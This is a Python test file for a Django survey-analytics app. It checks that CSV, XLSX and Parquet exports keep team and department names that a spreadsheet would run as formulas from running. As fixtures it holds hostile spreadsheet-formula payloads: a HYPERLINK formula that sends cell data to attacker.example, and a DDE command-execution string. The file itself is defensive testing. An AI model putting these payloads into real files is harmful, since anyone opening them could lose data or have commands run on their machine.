"""Team names that a spreadsheet would run as a formula, exported: CSV cells carry a leading
apostrophe, XLSX cells are typed strings holding the name unchanged, Parquet keeps the text."""

from __future__ import annotations

import csv
import zipfile
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from analytics.job.run import aggregate_cycle
from surveys.spreadsheet import FORMULA_STARTS, formula_like, spreadsheet_text
from tests.analytics.builders import cycle_run, org_build, standard_answers

pytestmark = pytest.mark.django_db

HOSTILE_DEPARTMENT = '=HYPERLINK("http://attacker.example/?"&A2,"Platform")'
HOSTILE_TEAMS = ("@SUM(1+1)*cmd|' /C calc'!A0", "+Growth", "-1+2", "\u2212Minus", "\uff1dWide")
PLAN = tuple((HOSTILE_DEPARTMENT, team, 7, 6) for team in HOSTILE_TEAMS)


@pytest.fixture
def aggregated():
    org = org_build(PLAN)
    submitted = cycle_run(org, standard_answers(org))
    aggregate_cycle(cycle=submitted.cycle)
    return submitted


def export(tmp_path: Path, fmt: str) -> Path:
    out = tmp_path / f"aggregates.{fmt}"
    call_command("export_aggregates", "--format", fmt, "--out", str(out), stdout=StringIO())
    return out


def test_csv_export_prefixes_every_formula_like_cell(tmp_path, aggregated):
    with export(tmp_path, "csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    paths = {row["unit_path"] for row in rows}
    for team in HOSTILE_TEAMS:
        assert "'" + HOSTILE_DEPARTMENT + "/" + team in paths
    assert "'" + HOSTILE_DEPARTMENT in paths
    texts = [value for row in rows for value in row.values() if not _is_number(value)]
    assert not [value for value in texts if formula_like(value)], "a cell a spreadsheet would run"


def _is_number(value: str) -> bool:
    """A negative number such as -2.0 starts with "-" and is meant to be read as a number."""
    try:
        float(value)
    except ValueError:
        return False
    return True


def test_xlsx_export_stores_formula_like_names_as_text(tmp_path, aggregated):
    from openpyxl import load_workbook

    out = export(tmp_path, "xlsx")
    with zipfile.ZipFile(out) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets), "a formula in the workbook"
    sheet = load_workbook(out)["aggregates"]
    header = [cell.value for cell in sheet[1]]
    path_column = header.index("unit_path")
    paths = {row[path_column].value for row in sheet.iter_rows(min_row=2)}
    assert HOSTILE_DEPARTMENT in paths  # the name itself, not an apostrophe-prefixed copy
    assert {f"{HOSTILE_DEPARTMENT}/{team}" for team in HOSTILE_TEAMS} <= paths
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)} == {"s"}


def test_parquet_export_keeps_the_text_as_it_is(tmp_path, aggregated):
    import pyarrow.parquet as pq

    paths = set(pq.read_table(export(tmp_path, "parquet")).column("unit_path").to_pylist())
    assert HOSTILE_DEPARTMENT in paths


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_prefixed(start):
    assert spreadsheet_text(start + "1") == "'" + start + "1"


def test_ordinary_text_is_unchanged():
    assert [spreadsheet_text(value) for value in ("", "Platform", "a=b", "Team 2", "'quoted")] == [
        "",
        "Platform",
        "a=b",
        "Team 2",
        "'quoted",
    ]


def test_a_control_character_stored_before_names_were_refused_does_not_fail_the_xlsx(tmp_path):
    """Names were not always checked for control characters; an old one must not break exports."""
    from openpyxl import load_workbook

    from surveys.models import Team

    org = org_build((("Engineering", "Alpha", 7, 6), ("Engineering", "Beta", 7, 6)))
    Team.objects.filter(name="Alpha").update(name="Al\x07pha")
    aggregate_cycle(cycle=cycle_run(org, standard_answers(org)).cycle)
    paths = {row[3].value for row in load_workbook(export(tmp_path, "xlsx"))["aggregates"].iter_rows(min_row=2)}
    assert "Engineering/Al\ufffdpha" in paths
